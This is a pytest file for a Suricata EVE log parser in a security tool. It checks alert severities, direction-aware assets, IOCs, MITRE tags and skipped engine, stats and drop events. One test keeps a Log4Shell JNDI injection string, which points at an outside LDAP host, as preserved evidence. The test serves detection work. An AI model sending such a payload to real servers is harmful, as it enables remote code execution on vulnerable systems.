"""Suricata EVE: alerts only, priority-based severity, direction-aware assets and IOCs."""

from __future__ import annotations

import json
from collections import Counter
from datetime import UTC, datetime

from zshield_tui.domain import Severity

from .conftest import FIXTURES, SAMPLES
from .helpers import load

HONEYPOT = SAMPLES / "suricata/eve_alerts_honeypot_josevnz_subset.jsonl"
SUREVEGO = SAMPLES / "suricata/eve_mixed_surevego.jsonl"
MITRE = FIXTURES / "suricata_mitre.jsonl"


def iocs(alert):
    return {(i.type, i.value) for i in alert.iocs}


def test_honeypot_severities_follow_the_priority_table():
    counts = Counter(a.severity for a in load(HONEYPOT).alerts)
    # README §3: severities 1 (43), 2 (221), 3 (36); no rule there is rated Critical by ET.
    assert counts == {Severity.HIGH: 43, Severity.MEDIUM: 221, Severity.LOW: 36}


def test_an_inbound_scan_has_our_host_as_asset_and_the_scanner_as_ioc():
    first = load(HONEYPOT).alerts[0]
    assert first.title == "ET SCAN Potential SSH Scan"
    assert first.severity is Severity.MEDIUM
    assert first.category == "Attempted Information Leak"
    assert first.source == "Suricata"
    # 2023-09-03T00:02:08.288432+0300: an offset without a colon, stored in UTC.
    assert first.created_at == datetime(2023, 9, 2, 21, 2, 8, 288432, tzinfo=UTC)
    assert [(a.hostname, a.ip) for a in first.assets] == [(None, "192.168.55.199")]
    assert iocs(first) == {("ip", "180.101.88.221")}
    assert first.mitre_technique is None
    assert first.raw["flow_id"] == 1566892700493488


def test_log4j_alerts_carry_the_cve_as_a_tag():
    log4j = [a for a in load(HONEYPOT).alerts if "log4j" in a.title]
    assert log4j
    assert all("cve:CVE-2021-44228" in a.tags for a in log4j)


def test_non_alert_events_are_skipped_and_counted():
    loaded = load(SUREVEGO)
    assert (len(loaded.alerts), loaded.stream.skipped) == (68, 198)


def test_http_context_becomes_domain_and_url_iocs():
    alert = load(SUREVEGO).alerts[0]
    # The file escapes slashes (GNU\/Linux); the title must read naturally.
    assert alert.title.startswith("ET POLICY GNU/Linux APT User-Agent")
    assert alert.severity is Severity.LOW
    assert ("domain", "deb.debian.org") in iocs(alert)
    assert ("ip", "54.230.202.37") in iocs(alert)
    assert ("url", "http://deb.debian.org/debian/pool/main/p/perl/perl-base_5.24.1-1_amd64.deb"
            ) in iocs(alert)
    assert [a.ip for a in alert.assets] == ["172.17.0.2"]


def test_mitre_metadata_and_critical_signature_severity():
    beacon = load(MITRE).by_title["ET MALWARE Cobalt Strike Beacon Observed"]
    assert beacon.severity is Severity.CRITICAL  # priority 1 and ET rates it Critical
    assert beacon.mitre_technique == "T1071"
    assert {"mitre:T1071", "mitre:T1071.001"} <= set(beacon.tags)
    assert beacon.source == "Suricata sensor-dmz-1"
    assert ("domain", "cdn.update-check.example") in iocs(beacon)
    assert ("ip", "91.195.240.94") in iocs(beacon)
    assert [a.ip for a in beacon.assets] == ["10.20.1.15"]


def test_priority_one_without_critical_rating_stays_high():
    exploit = load(MITRE).by_title["ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)"]
    assert exploit.severity is Severity.HIGH
    assert exploit.mitre_technique == "T1190"
    assert ("domain", "intranet.corp.example") in iocs(exploit)
    assert [a.ip for a in exploit.assets] == ["10.20.3.8"]
    assert ("ip", "45.155.205.233") in iocs(exploit)
    # The URL is kept exactly, payload included: it is the evidence.
    assert ("url", "http://intranet.corp.example/login?user=${jndi:ldap://45.155.205.233/a}"
            ) in iocs(exploit)


def test_custom_priorities_are_informational_and_a_missing_one_is_flagged():
    loaded = load(MITRE)
    assert loaded.errors == []
    custom = loaded.by_title["LOCAL custom priority rule"]
    assert custom.severity is Severity.INFORMATIONAL
    untitled = loaded.alerts[3]
    assert untitled.title == "Suricata signature 1:9000002:1"  # no signature text
    assert untitled.severity is Severity.MEDIUM
    assert "severity-unknown" in untitled.tags
    assert loaded.stream.skipped == 1


def test_rule_direction_decides_which_side_is_ours():
    # `target:` rules name both sides, even when both addresses are internal.
    probe = load(MITRE).by_title["ET EXPLOIT Possible ETERNALBLUE Probe MS17-010"]
    assert [a.ip for a in probe.assets] == ["10.20.5.5"]
    assert iocs(probe) == {("ip", "10.20.3.8")}


# --- What real sensors write beside alerts.

def _eve(event_type: str, **extra) -> str:
    return json.dumps({"timestamp": "2026-11-24T10:00:00.000000+0100", "flow_id": 2251799813685247,
                       "event_type": event_type, "src_ip": "10.0.0.5", "dest_ip": "203.0.113.9",
                       "proto": "TCP", **extra})


def test_a_drop_that_carries_its_alert_is_an_alert_and_a_plain_drop_is_skipped(tmp_path):
    blocked = {"action": "blocked", "gid": 1, "signature_id": 2, "rev": 1,
               "signature": "Drop signature!", "category": "", "severity": 3}
    path = tmp_path / "eve.json"
    path.write_text(_eve("drop", drop={"len": 60}, alert=blocked) + "\n"
                    + _eve("drop", drop={"len": 60}) + "\n")
    loaded = load(path)
    [alert] = loaded.alerts
    assert (alert.title, alert.severity) == ("Drop signature!", Severity.LOW)
    assert "Action: blocked" in alert.description
    assert dict(loaded.stream.skip_reasons) == {"Suricata drop event": 1}


def test_a_file_of_engine_and_stats_records_loads_with_no_alert(tmp_path):
    path = tmp_path / "eve.json"
    # Suricata escapes slashes in engine messages: \/ is valid JSON for "/".
    engine = r'{"timestamp": "2026-11-24T10:00:00Z", "event_type": "engine", ' \
             r'"engine": {"message": "rule in \"x\/\/eve.json\" failed"}}'
    path.write_text(engine + "\n"
                    + _eve("engine", engine={"message": "again"}) + "\n"
                    + _eve("stats", stats={"uptime": 3}))  # and no trailing newline
    loaded = load(path)
    assert (loaded.stream.format, loaded.alerts, loaded.errors) == ("suricata", [], [])
    assert loaded.stream.skipped == 3
    assert dict(loaded.stream.skip_reasons) == {"Suricata engine event": 2,
                                                "Suricata stats event": 1}
